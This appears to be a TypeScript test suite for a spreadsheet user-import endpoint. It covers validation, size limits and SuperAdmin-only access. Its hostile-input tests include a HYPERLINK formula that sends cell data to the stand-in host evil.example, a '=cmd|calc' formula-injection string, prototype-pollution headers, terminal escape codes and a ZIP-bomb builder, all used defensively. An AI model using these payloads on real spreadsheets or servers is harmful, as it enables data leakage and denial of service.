/**
 * POST /user/uploadExcelUsers through inject (docs/areas/users.md, "Upload"), with real .xlsx files written by
 * exceljs: a good sheet creates invited users once (the same file again creates nothing), mixed rows are refused
 * with their reasons in sheet order, a hostile sheet (formulas, `__proto__` headers) does nothing harmful, and the
 * file limits (5 MB, 5,000 rows, .xlsx only) answer 413/415 with nothing created; SuperAdmin only.
 */
import { createHash } from 'node:crypto';
import { PassThrough } from 'node:stream';
import { deflateRawSync, inflateRawSync } from 'node:zlib';
import { PlatformMessages, UsersMessages, USER_UPLOAD_MAX_BYTES, USER_UPLOAD_MAX_ROWS, type UserUploadReport } from '@backoffice/contracts';
import { allAuditEvents, auditEventsOf, form } from '@backoffice/api-server/testing';
import { departments, outbox, passwordResets, users } from '@backoffice/api-server/schema';
import { and, count, eq, inArray, isNull } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { userImports } from '../users.schema';
import { bearer, buildTestAppAsAdmin, demo, loginAs, type App } from '../test/helper';

const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const HEADER = ['Email', 'First Name', 'Last Name', 'Role', 'Department'];

/** A real .xlsx of one sheet (or several: the first is `rows`). */
async function xlsx(rows: ExcelJS.CellValue[][], more: Record<string, ExcelJS.CellValue[][]> = {}): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('Users');
  for (const row of rows) sheet.addRow(row);
  for (const [name, extra] of Object.entries(more)) {
    const other = workbook.addWorksheet(name);
    for (const row of extra) other.addRow(row);
  }
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

/** A real .xlsx written by exceljs's streaming writer without shared strings (inline strings only). */
async function xlsxInline(rows: ExcelJS.CellValue[][]): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  const workbook = new ExcelJS.stream.xlsx.WorkbookWriter({ stream: out, useSharedStrings: false, useStyles: false });
  const sheet = workbook.addWorksheet('Users');
  for (const row of rows) sheet.addRow(row).commit();
  sheet.commit();
  await workbook.commit();
  return Buffer.concat(chunks);
}

/** A ZIP of the given entries (deflated), with its central directory: what a non-spreadsheet ZIP looks like. */
function zipOf(entries: { name: string; data: Buffer }[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const packed = deflateRawSync(e.data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(e.data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(e.data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, packed);
    centrals.push(central, name);
    offset += 30 + name.length + packed.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/** The entries of a ZIP (by its central directory), unpacked. */
function unzip(zip: Buffer): { name: string; data: Buffer }[] {
  const end = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const count = zip.readUInt16LE(end + 10);
  let at = zip.readUInt32LE(end + 16);
  const entries: { name: string; data: Buffer }[] = [];
  for (let i = 0; i < count; i++) {
    const method = zip.readUInt16LE(at + 10);
    const size = zip.readUInt32LE(at + 20);
    const nameLength = zip.readUInt16LE(at + 28);
    const skip = nameLength + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
    const local = zip.readUInt32LE(at + 42);
    const name = zip.subarray(at + 46, at + 46 + nameLength).toString('utf8');
    const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    const packed = zip.subarray(start, start + size);
    entries.push({ name, data: method === 8 ? inflateRawSync(packed) : Buffer.from(packed) });
    at += 46 + skip;
  }
  return entries;
}

/**
 * An .xlsx whose cells hold character references such as `&#1;`: exceljs drops control characters when it writes,
 * so the cells are written as `{{1}}` and the XML rewritten, declared XML 1.1 (XML 1.0 allows no such reference:
 * the reader refuses it; XML 1.1 allows all but `&#0;`).
 */
async function xlsxWithCharacterReferences(rows: ExcelJS.CellValue[][]): Promise<Buffer> {
  const entries = unzip(await xlsx(rows)).map(({ name, data }) => ({
    name,
    data: name.endsWith('.xml')
      ? Buffer.from(data.toString('utf8').replace('version="1.0"', 'version="1.1"').replace(/\{\{(x?[0-9A-Fa-f]+)\}\}/g, '&#$1;'))
      : data,
  }));
  return zipOf(entries);
}

describe('POST /user/uploadExcelUsers', () => {
  let app: App;
  let admin: Record<string, string>;

  beforeAll(async () => {
    ({ app, admin } = await buildTestAppAsAdmin());
  });
  afterAll(() => app.close());

  const upload = (bytes: Buffer, filename = 'users.xlsx', headers: Record<string, string> = admin, type = XLSX_TYPE) => {
    const f = form({ file: { filename, type, bytes } });
    return app.inject({ method: 'POST', url: '/api/user/uploadExcelUsers', headers: { ...headers, ...f.headers }, payload: f.payload });
  };
  const userCount = async () => Number((await app.db.select({ n: count() }).from(users))[0].n);
  const importCount = async () => Number((await app.db.select({ n: count() }).from(userImports))[0].n);
  const live = async (email: string) =>
    (await app.db.select().from(users).where(and(eq(users.email, email), isNull(users.deletedAt))))[0];
  const refusedAs = (res: { statusCode: number; json: () => { message: string } }) => ({ status: res.statusCode, message: res.json().message });

  it('creates the rows of a good sheet as invited users without a password, audited, with the import recorded; the same file again creates nothing', async () => {
    const bytes = await xlsx([
      HEADER,
      ['good.one@upload.example', 'Good', 'One', 'Employee', ''],
      ['  GOOD.Two@Upload.example ', ' Good ', ' Two ', 'department', ' finance '],
      ['good.three@upload.example', '', '', '', 'Finance'],
    ]);
    const res = await upload(bytes, 'staff.xlsx');
    expect(res.statusCode).toBe(200);
    const report = res.json() as UserUploadReport;
    expect(report).toMatchObject({ message: UsersMessages.upload.success, rows: 3, refused: [] });
    expect(report.created.map((c) => [c.row, c.email])).toEqual([
      [2, 'good.one@upload.example'],
      [3, 'good.two@upload.example'],
      [4, 'good.three@upload.example'],
    ]);

    const [finance] = await app.db.select().from(departments).where(eq(departments.name, 'Finance'));
    const two = await live('good.two@upload.example');
    expect(two).toMatchObject({ id: report.created[1]._id, role: 'Department', departmentId: finance.id, firstName: 'Good', lastName: 'Two', passwordHash: null });
    expect(await live('good.one@upload.example')).toMatchObject({ role: 'Employee', departmentId: null, firstName: 'Good', lastName: 'One' });
    // Role empty: Employee (a Department column beside it is ignored); names may be empty.
    expect(await live('good.three@upload.example')).toMatchObject({ role: 'Employee', departmentId: null, firstName: '', lastName: '' });

    // No password until the invitation is accepted: nobody can sign in yet.
    await expect(loginAs(app, { email: 'good.one@upload.example', password: 'anything' })).rejects.toThrow();
    const ids = report.created.map((c) => c._id);
    expect(await app.db.select().from(passwordResets).where(inArray(passwordResets.userId, ids))).toHaveLength(3);
    const mails = await app.db.select().from(outbox).where(inArray(outbox.recipient, report.created.map((c) => c.email)));
    expect(mails.map((m) => m.recipient).sort()).toEqual(['good.one@upload.example', 'good.three@upload.example', 'good.two@upload.example']);
    expect(mails.every((m) => m.channel === 'email')).toBe(true);

    const [created] = await auditEventsOf(app, 'user', report.created[1]._id).then((events) => events.filter((e) => e.action === 'user.create'));
    expect(created).toMatchObject({ actorRole: 'SuperAdmin', before: null, after: { email: 'good.two@upload.example', role: 'Department', departmentId: finance.id, importId: report.importId } });
    const [uploaded] = await auditEventsOf(app, 'user', report.importId);
    expect(uploaded).toMatchObject({ action: 'user.upload', after: { fileName: 'staff.xlsx', rows: 3, created: 3, refused: 0 } });
    const [stored] = await app.db.select().from(userImports).where(eq(userImports.id, report.importId));
    expect(stored).toMatchObject({
      fileName: 'staff.xlsx',
      sha256: createHash('sha256').update(bytes).digest('hex'),
      rowCount: 3,
      createdCount: 3,
      refusedCount: 0,
      report,
    });

    const before = await userCount();
    const again = await upload(bytes, 'staff.xlsx');
    expect(again.statusCode).toBe(200);
    expect(again.json()).toMatchObject({ rows: 3, created: [] });
    expect((again.json() as UserUploadReport).refused).toEqual([
      { row: 2, email: 'good.one@upload.example', reason: UsersMessages.create.emailTaken },
      { row: 3, email: 'GOOD.Two@Upload.example', reason: UsersMessages.create.emailTaken },
      { row: 4, email: 'good.three@upload.example', reason: UsersMessages.create.emailTaken },
    ]);
    expect(await userCount()).toBe(before);
  });

  it('refuses the invalid rows with their reasons in sheet order and creates the others; headers match without case, spaces or underscores', async () => {
    const [deleted] = await app.db
      .insert(users)
      .values({ email: 'was.deleted@upload.example', firstName: 'Was', lastName: 'Deleted', role: 'Employee', deletedAt: new Date(), disabled: true })
      .returning({ id: users.id });
    const bytes = await xlsx([
      ['E-mail', 'first_name', 'LastName', ' ROLE ', 'department', 'Notes'],
      ['', 'No', 'Email'],
      ['not-an-email', 'Bad', 'Shape'],
      ['role.admin@upload.example', 'Role', 'Admin', 'Admin'],
      ['dept.missing@upload.example', 'Dept', 'Missing', 'Department', ''],
      ['dept.unknown@upload.example', 'Dept', 'Unknown', 'Department', 'Marketing'],
      ['long.name@upload.example', 'x'.repeat(101), 'Long'],
      ['mixed.ok@upload.example', 'Mixed', 'Ok', 'EMPLOYEE'],
      ['Mixed.OK@upload.example', 'Mixed', 'Again'],
      [demo.employee.email.toUpperCase(), 'Taken', 'Already'],
      [],
      ['-cmd@upload.example', 'Dash', 'Start'],
      ['was.deleted@upload.example', 'Back', 'Again', 'Department', 'customer support'],
      [null, null, null, null, null, 'only a note'],
    ]);
    const res = await upload(bytes);
    expect(res.statusCode).toBe(200);
    const report = res.json() as UserUploadReport;
    expect(report.rows).toBe(12); // the blank row 11 is not a data row
    expect(report.refused).toEqual([
      { row: 2, email: '', reason: UsersMessages.create.emailRequired },
      { row: 3, email: 'not-an-email', reason: UsersMessages.create.emailInvalid },
      { row: 4, email: 'role.admin@upload.example', reason: UsersMessages.upload.roleInvalid },
      { row: 5, email: 'dept.missing@upload.example', reason: UsersMessages.create.departmentRequired },
      { row: 6, email: 'dept.unknown@upload.example', reason: UsersMessages.upload.departmentNotFound },
      { row: 7, email: 'long.name@upload.example', reason: UsersMessages.upload.nameTooLong },
      { row: 9, email: 'Mixed.OK@upload.example', reason: UsersMessages.upload.duplicateInSheet },
      { row: 10, email: demo.employee.email.toUpperCase(), reason: UsersMessages.create.emailTaken },
      { row: 12, email: '-cmd@upload.example', reason: UsersMessages.create.emailInvalid },
      { row: 14, email: '', reason: UsersMessages.create.emailRequired },
    ]);
    expect(report.created.map((c) => [c.row, c.email])).toEqual([
      [8, 'mixed.ok@upload.example'],
      [13, 'was.deleted@upload.example'],
    ]);
    // A deleted account's e-mail is free: a new account is made, the deleted one stays.
    const again = await live('was.deleted@upload.example');
    expect(again.id).not.toBe(deleted.id);
    expect(again).toMatchObject({ role: 'Department', firstName: 'Back' });
    for (const email of ['role.admin@upload.example', 'dept.missing@upload.example', 'long.name@upload.example', '-cmd@upload.example']) {
      expect(await live(email)).toBeUndefined();
    }
    expect(await importCount()).toBeGreaterThan(0);
    const [stored] = await app.db.select().from(userImports).where(eq(userImports.id, report.importId));
    expect(stored).toMatchObject({ rowCount: 12, createdCount: 2, refusedCount: 10 });
  });

  it('never evaluates formulas nor lets a __proto__ header touch anything: formula cells are refused, the other rows work', async () => {
    const prototypeNames = Object.getOwnPropertyNames(Object.prototype).sort();
    const bytes = await xlsx([
      ['Email', 'First Name', '__proto__', 'constructor', 'prototype', 'Last Name', 'toString'],
      [{ formula: 'HYPERLINK("http://evil.example/?leak="&A3,"formula.mail@upload.example")', result: 'formula.mail@upload.example' }, 'Formula', 'x', 'x', 'x', 'Mail', 'x'],
      ['formula.name@upload.example', { formula: 'CONCAT("=cmd","|calc")', result: '=cmd|calc' }, 'x', 'x', 'x', 'Name', 'x'],
      ['at.name@upload.example', '@SUM(A1)', '', '', '', 'At', ''],
      ['proto.row@upload.example', 'Proto', '{"polluted":true}', 'polluted', 'polluted', 'Row', 'polluted'],
      [
        { text: 'link.row@upload.example', hyperlink: 'mailto:someone.else@evil.example' },
        { richText: [{ text: 'Ri' }, { font: { bold: true }, text: 'ch' }] },
        '',
        '',
        '',
        { formula: '1+1', result: 2 },
        '',
      ],
    ]);
    const res = await upload(bytes);
    expect(res.statusCode).toBe(200);
    const report = res.json() as UserUploadReport;
    expect(report.refused).toEqual([
      { row: 2, email: expect.stringMatching(/^=HYPERLINK\(/), reason: UsersMessages.create.emailInvalid },
      { row: 3, email: 'formula.name@upload.example', reason: UsersMessages.upload.nameUnsafe },
      { row: 4, email: 'at.name@upload.example', reason: UsersMessages.upload.nameUnsafe },
      { row: 6, email: 'link.row@upload.example', reason: UsersMessages.upload.nameUnsafe },
    ]);
    expect(report.created.map((c) => [c.row, c.email])).toEqual([[5, 'proto.row@upload.example']]);
    expect(await live('proto.row@upload.example')).toMatchObject({ firstName: 'Proto', lastName: 'Row', role: 'Employee' });
    expect(await live('formula.mail@upload.example')).toBeUndefined();
    expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(prototypeNames);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(typeof {}.toString).toBe('function');

    // A hyperlink is its text, rich text its plain text.
    const link = await upload(await xlsx([HEADER, [{ text: 'link.ok@upload.example', hyperlink: 'mailto:other@evil.example' }, { richText: [{ text: 'Ri' }, { font: { bold: true }, text: 'ch' }] }, 'Text']]));
    expect(link.json().created).toEqual([expect.objectContaining({ row: 2, email: 'link.ok@upload.example' })]);
    expect(await live('link.ok@upload.example')).toMatchObject({ firstName: 'Rich', lastName: 'Text' });
  });

  it('refuses a row whose cells hold control characters (XML character references) with the reason Create User gives, and stores none', async () => {
    const bytes = await xlsxWithCharacterReferences([
      HEADER,
      ['ctl.names@upload.example', 'A{{1}}B', 'C{{27}}[31mD', 'Employee', ''],
      ['ctl.last@upload.example', 'Plain', 'Bell{{7}}', '', ''],
      ['ctl{{1}}mail@upload.example', 'Mail', 'Control', '', ''],
      ['ctl.role@upload.example', 'Role', 'Control', 'Employee{{x8}}', ''],
      ['ctl.dept@upload.example', 'Dept', 'Control', 'Department', 'Finance{{31}}'],
      ['ctl.fine@upload.example', 'Tab\tIs', 'Fine', '', ''],
    ]);
    // The hostile cells are character references in the sheet's XML, not the characters (exceljs drops those).
    const strings = unzip(bytes).find((e) => e.name === 'xl/sharedStrings.xml')?.data.toString('utf8') ?? '';
    expect(strings).toContain('A&#1;B');
    expect(strings).toContain('C&#27;[31mD');
    const users0 = await userCount();
    const res = await upload(bytes);
    expect(res.statusCode).toBe(200);
    const report = res.json() as UserUploadReport;
    expect(report.refused).toEqual([
      { row: 2, email: 'ctl.names@upload.example', reason: 'First Name contains a control character' },
      { row: 3, email: 'ctl.last@upload.example', reason: 'Last Name contains a control character' },
      // The report shows the refused character as U+FFFD: the report is stored and shown, the character never.
      { row: 4, email: 'ctl\ufffdmail@upload.example', reason: 'Email contains a control character' },
      { row: 5, email: 'ctl.role@upload.example', reason: 'Role contains a control character' },
      { row: 6, email: 'ctl.dept@upload.example', reason: 'Department contains a control character' },
    ]);
    expect(report.created.map((c) => [c.row, c.email])).toEqual([[7, 'ctl.fine@upload.example']]);
    expect(await userCount()).toBe(users0 + 1);
    for (const email of ['ctl.names@upload.example', 'ctl.last@upload.example', 'ctl.role@upload.example', 'ctl.dept@upload.example']) {
      expect(await live(email)).toBeUndefined();
    }
    // Tab, line feed and carriage return are text, as in a request body.
    expect(await live('ctl.fine@upload.example')).toMatchObject({ firstName: 'Tab\tIs' });
    // The same name through Create User is refused alike.
    const created = await app.inject({
      method: 'POST',
      url: '/api/user/create',
      headers: admin,
      payload: { email: 'ctl.create@upload.example', role: 'Employee', password: 'Fresh#2026x', firstName: 'A\u0001B', lastName: 'C\u001b[31mD' },
    });
    expect(refusedAs(created)).toEqual({ status: 400, message: 'firstName contains a control character' });
  });

  it('never answers 500 for a cell with NUL or a lone surrogate: the sheet or the row is refused, nothing stored', async () => {
    const users0 = await userCount();
    for (const cell of ['Nul{{0}}Name', 'Half{{xD800}}Pair']) {
      const res = await upload(await xlsxWithCharacterReferences([HEADER, ['odd.cell@upload.example', cell, 'Odd']]));
      const body = res.json();
      if (res.statusCode === 200) {
        expect(body.refused).toEqual([{ row: 2, email: 'odd.cell@upload.example', reason: expect.stringMatching(/^First Name contains an? (control|invalid) character$/) }]);
      } else {
        expect({ cell, status: res.statusCode, message: body.message }).toEqual({ cell, status: 415, message: UsersMessages.upload.notXlsx });
      }
    }
    expect(await userCount()).toBe(users0);
  });

  it('answers 413 for more than 5,000 data rows and creates nothing; 5,000 rows are read', async () => {
    const rows = (n: number, prefix: string) => [HEADER, ...Array.from({ length: n }, (_, i) => [`${prefix}.${i}@upload.example`, 'Row', String(i)])];
    const users0 = await userCount();
    const imports0 = await importCount();
    const events0 = (await allAuditEvents(app)).length;
    const res = await upload(await xlsx(rows(USER_UPLOAD_MAX_ROWS + 1, 'over')));
    expect(refusedAs(res)).toEqual({ status: 413, message: UsersMessages.upload.tooManyRows });
    expect(await userCount()).toBe(users0);
    expect(await importCount()).toBe(imports0);
    expect((await allAuditEvents(app)).length).toBe(events0);

    // At the limit the sheet is read (every row refused here, so that nothing is created).
    const atLimit = await upload(await xlsx([HEADER, ...Array.from({ length: USER_UPLOAD_MAX_ROWS }, (_, i) => [`not-an-email-${i}`])]));
    expect(atLimit.statusCode).toBe(200);
    expect(atLimit.json()).toMatchObject({ rows: USER_UPLOAD_MAX_ROWS, created: [] });
    expect(atLimit.json().refused).toHaveLength(USER_UPLOAD_MAX_ROWS);
  });

  it('answers 413 for a file over 5 MB, 415 for a renamed .exe, a ZIP that is not a workbook or an .xls, 413 for a ZIP bomb', async () => {
    const big = Buffer.alloc(USER_UPLOAD_MAX_BYTES + 1, 0x41);
    big.writeUInt32LE(0x04034b50, 0);
    expect(refusedAs(await upload(big))).toEqual({ status: 413, message: UsersMessages.upload.tooLarge });

    const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(512, 0x90)]);
    expect(refusedAs(await upload(exe, 'users.xlsx'))).toEqual({ status: 415, message: UsersMessages.upload.notXlsx });
    const zip = zipOf([{ name: 'hello.txt', data: Buffer.from('not a workbook') }]);
    expect(refusedAs(await upload(zip, 'users.xlsx'))).toEqual({ status: 415, message: UsersMessages.upload.notXlsx });
    const broken = zipOf([
      { name: 'xl/_rels/workbook.xml.rels', data: Buffer.from('<Relationships/>') },
      { name: 'xl/workbook.xml', data: Buffer.from('<workbook><<sheets/></workbook>') },
    ]);
    expect(refusedAs(await upload(broken, 'users.xlsx'))).toEqual({ status: 415, message: UsersMessages.upload.notXlsx });

    const ole2 = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(1024)]);
    expect(refusedAs(await upload(ole2, 'users.xlsx', admin, 'application/vnd.ms-excel'))).toEqual({ status: 415, message: UsersMessages.upload.xlsRefused });
    const good = await xlsx([HEADER, ['xls.name@upload.example']]);
    expect(refusedAs(await upload(good, 'Users.XLS', admin, 'application/vnd.ms-excel'))).toEqual({ status: 415, message: UsersMessages.upload.xlsRefused });
    expect(await live('xls.name@upload.example')).toBeUndefined();

    // 65 MB of zeros deflate to about 64 KB: refused before the reader unpacks anything.
    const bomb = zipOf([
      { name: 'xl/_rels/workbook.xml.rels', data: Buffer.from('<Relationships/>') },
      { name: 'xl/workbook.xml', data: Buffer.from('<workbook/>') },
      { name: 'xl/sharedStrings.xml', data: Buffer.alloc(65 * 1024 * 1024, 0x20) },
    ]);
    expect(bomb.length).toBeLessThan(USER_UPLOAD_MAX_BYTES);
    expect(refusedAs(await upload(bomb))).toEqual({ status: 413, message: UsersMessages.upload.tooLargeUnpacked });
  });

  it('reads the first tab only, and a workbook without shared strings', async () => {
    const res = await upload(await xlsx([HEADER, ['first.tab@upload.example', 'First', 'Tab']], { Other: [HEADER, ['second.tab@upload.example']] }));
    expect(res.json()).toMatchObject({ rows: 1, created: [expect.objectContaining({ email: 'first.tab@upload.example' })] });
    expect(await live('second.tab@upload.example')).toBeUndefined();

    const inline = await upload(await xlsxInline([HEADER, ['inline.strings@upload.example', 'In', 'Line', 'Employee']]));
    expect(inline.statusCode).toBe(200);
    expect(inline.json()).toMatchObject({ rows: 1, refused: [], created: [expect.objectContaining({ row: 2, email: 'inline.strings@upload.example' })] });
  });

  it('answers 400 without an Email column, without a file, or with another field', async () => {
    expect(refusedAs(await upload(await xlsx([['Name', 'Role'], ['Someone', 'Employee']])))).toEqual({ status: 400, message: UsersMessages.upload.noEmailColumn });
    expect(refusedAs(await upload(await xlsx([])))).toEqual({ status: 400, message: UsersMessages.upload.noEmailColumn });
    const json = await app.inject({ method: 'POST', url: '/api/user/uploadExcelUsers', headers: admin, payload: { file: 'x' } });
    expect(refusedAs(json)).toEqual({ status: 400, message: UsersMessages.upload.fileRequired });
    const text = form({ note: 'hello' });
    const onlyText = await app.inject({ method: 'POST', url: '/api/user/uploadExcelUsers', headers: { ...admin, ...text.headers }, payload: text.payload });
    expect(refusedAs(onlyText)).toEqual({ status: 400, message: 'Unknown field: note' });
    const other = form({ sheet: { filename: 'users.xlsx', type: XLSX_TYPE, bytes: await xlsx([HEADER]) } });
    const otherField = await app.inject({ method: 'POST', url: '/api/user/uploadExcelUsers', headers: { ...admin, ...other.headers }, payload: other.payload });
    expect(refusedAs(otherField)).toEqual({ status: 400, message: 'Unknown field: sheet' });
  });

  it('is for SuperAdmins only: 401 without a token, 403 for an Employee or a Department user', async () => {
    const bytes = await xlsx([HEADER, ['rights.check@upload.example']]);
    expect(refusedAs(await upload(bytes, 'users.xlsx', {}))).toEqual({ status: 401, message: PlatformMessages.auth.unauthorized });
    for (const account of [demo.employee, demo.department]) {
      const res = await upload(bytes, 'users.xlsx', bearer(await loginAs(app, account)));
      expect(refusedAs(res)).toEqual({ status: 403, message: PlatformMessages.auth.forbidden });
    }
    expect(await live('rights.check@upload.example')).toBeUndefined();
  });
});
